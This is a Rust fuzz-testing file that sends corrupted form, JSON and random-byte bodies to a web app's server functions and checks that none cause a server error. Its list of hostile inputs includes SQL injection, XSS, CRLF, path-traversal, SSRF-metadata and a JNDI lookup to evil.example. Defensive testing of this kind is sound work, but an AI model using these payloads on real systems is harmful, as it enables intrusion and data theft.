//! Generated bodies for every server function: a hundred each, or as many as `WAYSIDE_FUZZ` says, from the seed `WAYSIDE_FUZZ_SEED`.
//!
//! Each starts as a valid request of a permitted user, so that it passes the first check, and is then corrupted: hostile values; missing, duplicated,
//! renamed and nested fields; truncated and random bytes; other content types. No response may be a 500.

use rand::{Rng, SeedableRng, rngs::StdRng, seq::IndexedRandom};

use crate::testing::{
    access::{Watched, functions},
    address,
};

type Fields = Vec<(String, String)>;

/// Bodies for each function in CI.
const BODIES: usize = 100;

/// After this many accepted bodies, the objects of the requests are no longer recreated.
const FRESH_AT_MOST: usize = 5;

/// Values that have broken software elsewhere.
const HOSTILE: [&str; 56] = [
    "",
    " ",
    "\0",
    "a\0b",
    "\u{feff}",
    "\u{202e}txt.exe",
    "Ａｎｎ",
    "e\u{301}",
    "👩‍👩‍👧‍👦",
    "ß",
    "İ",
    "\r\nSet-Cookie: x=1",
    "\t",
    "\u{1}\u{7f}\u{9f}",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n",
    "%00",
    "' or '1'='1",
    "'; drop table users; --",
    "\\",
    "\"",
    "<script>alert(1)</script>",
    "</textarea><xss-probe>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "0",
    "-0",
    "-1",
    "1e309",
    "NaN",
    "inf",
    "0.1",
    "1,000.00",
    "$ 12.345",
    "９",
    "2147483648",
    "-9223372036854775808",
    "9223372036854775807",
    "18446744073709551616",
    "99999999999999999999999999999999999999999999",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "2026-02-30",
    "9999-12-31T23:59:60Z",
    "-262144-01-01",
    "24:61",
    "+1404555012345678901234567890",
    "a@b",
];

fn value(rng: &mut StdRng) -> String {
    match rng.random_range(0..10) {
        0 => "x".repeat(rng.random_range(1..5_000)),
        1 => (0..rng.random_range(1..40)).map(|_| rng.random::<char>()).collect(),
        2 => rng.random::<i64>().to_string(),
        3 => rng.random::<f64>().to_string(),
        _ => (*HOSTILE.choose(rng).unwrap()).to_owned(),
    }
}

/// Corrupts a valid form in one or several ways; returns content type and body.
fn spoil(valid: &Fields, rng: &mut StdRng) -> (&'static str, Vec<u8>) {
    const FORM: &str = "application/x-www-form-urlencoded";
    let mut fields = valid.clone();
    let any = |rng: &mut StdRng, fields: &Fields| (!fields.is_empty()).then(|| rng.random_range(0..fields.len()));
    for _ in 0..rng.random_range(1..4) {
        let at = any(rng, &fields);
        match (rng.random_range(0..8), at) {
            (0..=2, Some(at)) => fields[at].1 = value(rng),
            (3, Some(at)) => drop(fields.remove(at)),
            (4, Some(at)) => {
                let (name, _) = fields[at].clone();
                fields.push((name, value(rng)));
            }
            (5, Some(at)) => fields[at].0 = format!("{}[{}]", fields[at].0, value(rng)),
            (6, Some(at)) => fields[at].0 = value(rng),
            _ => fields.push((value(rng), value(rng))),
        }
    }
    let mut body = form_urlencoded::Serializer::new(String::new()).extend_pairs(&fields).finish().into_bytes();
    match rng.random_range(0..12) {
        0 => body.truncate(rng.random_range(0..=body.len())),
        1 => {
            for _ in 0..3 {
                if let Some(at) = (!body.is_empty()).then(|| rng.random_range(0..body.len())) {
                    body[at] = rng.random();
                }
            }
        }
        2 => body = (0..rng.random_range(0..300)).map(|_| rng.random()).collect(),
        3 => {
            let object: serde_json::Map<String, serde_json::Value> =
                fields.into_iter().map(|(name, value)| (name, value.into())).collect();
            return ("application/json", serde_json::to_vec(&object).unwrap());
        }
        4 => return (["application/json", "multipart/form-data", "text/plain"].choose(rng).unwrap(), body),
        _ => {}
    }
    (FORM, body)
}

fn setting(name: &str) -> Option<u64> {
    std::env::var(name).ok()?.parse().ok()
}

/// Four tests share the functions, so that they run in parallel.
const SHARES: usize = 4;

#[tokio::test]
async fn no_input_breaks_the_first_quarter_of_functions() {
    fuzz(0).await;
}

#[tokio::test]
async fn no_input_breaks_the_second_quarter_of_functions() {
    fuzz(1).await;
}

#[tokio::test]
async fn no_input_breaks_the_third_quarter_of_functions() {
    fuzz(2).await;
}

#[tokio::test]
async fn no_input_breaks_the_last_quarter_of_functions() {
    fuzz(3).await;
}

async fn fuzz(share: usize) {
    let bodies = setting("WAYSIDE_FUZZ").and_then(|number| usize::try_from(number).ok()).unwrap_or(BODIES);
    let seed = setting("WAYSIDE_FUZZ_SEED").unwrap_or(1);
    let mut watched = Watched::new().await;
    let mut answers = std::collections::BTreeMap::new();
    let mut endpoints: Vec<&str> = Vec::new();
    let mut lines = functions();
    lines.dedup_by_key(|line| line.endpoint);
    for line in lines.into_iter().skip(share).step_by(SHARES) {
        endpoints.push(line.endpoint);
        let mut rng = StdRng::seed_from_u64(
            seed ^ line.endpoint.bytes().fold(0, |sum: u64, byte| sum.wrapping_mul(31) + u64::from(byte)),
        );
        let person = line.may[0];
        let mut call = (line.prepare)(&watched.world.ours, person).await;
        let mut browser = watched.browser(person, &call, true);
        let mut accepted = 0;
        for nth in 0..bodies {
            let (kind, body) = spoil(&call.fields, &mut rng);
            browser = browser.at(&address());
            let accept = if nth % 4 == 0 { "text/html" } else { "application/json" };
            let headers = [
                ("content-type", kind),
                ("accept", accept),
                ("sec-fetch-site", "same-origin"),
                ("referer", "http://ours.localhost/"),
            ];
            let reply = browser.post_raw(&format!("/api/{}", line.endpoint), &headers, body.clone()).await;
            watched.calls += 1;
            *answers.entry(reply.status.as_u16()).or_insert(0) += 1;
            if reply.status.is_server_error() {
                let sent = String::from_utf8_lossy(&body).into_owned();
                watched.complain(format!(
                    "{} answers {} to {sent:.600}: {:.200}",
                    line.endpoint, reply.status, reply.html
                ));
            }
            if reply.status == 200 && accepted < FRESH_AT_MOST {
                accepted += 1;
                call = (line.prepare)(&watched.world.ours, person).await;
                browser = watched.browser(person, &call, true);
            }
        }
    }
    watched
        .done(&format!("{} functions, {bodies} bodies each, seed {seed}; answers {answers:?}", endpoints.len()))
        .await;
}
